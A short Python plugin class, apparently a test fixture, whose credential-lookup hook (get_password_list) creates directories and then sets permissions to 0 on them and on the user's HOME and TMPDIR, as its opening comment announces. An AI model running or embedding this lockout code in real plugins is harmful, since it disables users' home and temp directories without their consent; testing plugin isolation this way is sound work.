# Makes its folders unreadable.
import os


class Plugin:
    def __init__(self, configuration):
        self.configuration = configuration

    def get_password_list(self, cookie, session_cookie):
        for name in ("TMPDIR", "HOME"):
            os.makedirs(os.environ[name] + "/a/b")
            os.chmod(os.environ[name] + "/a/b", 0)
            os.chmod(os.environ[name] + "/a", 0)
            os.chmod(os.environ[name], 0)
        return None

    def get_private_key_list(self):
        return None

    def authentication_completed(self):
        return None

    def session_ended(self):
        return None
